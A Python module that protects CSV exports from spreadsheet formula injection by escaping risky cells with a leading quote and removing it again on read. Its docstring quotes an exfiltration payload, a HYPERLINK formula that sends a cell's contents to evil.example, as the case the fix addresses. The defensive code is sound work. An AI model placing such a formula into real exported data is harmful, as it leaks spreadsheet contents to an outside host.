"""CSV cells a spreadsheet will not run: text starting with = + - @ tab or CR gets a leading `'` (OWASP's
CSV injection advice), and dlx's own readers take that `'` off again, so an export reads back unchanged.

A run named `=HYPERLINK("http://evil.example/?"&A1,"open")` exported raw became a live formula in the
viewer's spreadsheet. Numbers stay numbers: -1.5 (a float, or the text "-1.5") is written as it is.
A value that already starts with quotes before such a character gets one more, so reading strips exactly
the one that writing added.
"""
from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator
from typing import Any, TextIO

_TRIGGER = re.compile(r"'*[=+\-@\t\r]")  # optional quotes, then a character a spreadsheet acts on
_ESCAPED = re.compile(r"'+[=+\-@\t\r]")


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def escape(value: Any) -> Any:
    """A cell as written: text a spreadsheet would evaluate gets a leading `'`; anything else as it is."""
    if isinstance(value, str) and _TRIGGER.match(value) and not _number(value):
        return "'" + value
    return value


def unescape(text: str) -> str:
    """A cell as read: the `'` that `escape` added taken off again."""
    if _ESCAPED.match(text) and not _number(text[1:]):
        return text[1:]
    return text


class Writer:
    """csv.writer whose every cell goes through `escape`."""

    def __init__(self, file: TextIO, **options: Any) -> None:
        self._writer = csv.writer(file, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([escape(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file: TextIO, **options: Any) -> Writer:
    return Writer(file, **options)


def reader(file: Iterable[str], **options: Any) -> Iterator[list[str]]:
    """csv.reader with every cell through `unescape`."""
    for row in csv.reader(file, **options):
        yield [unescape(cell) for cell in row]
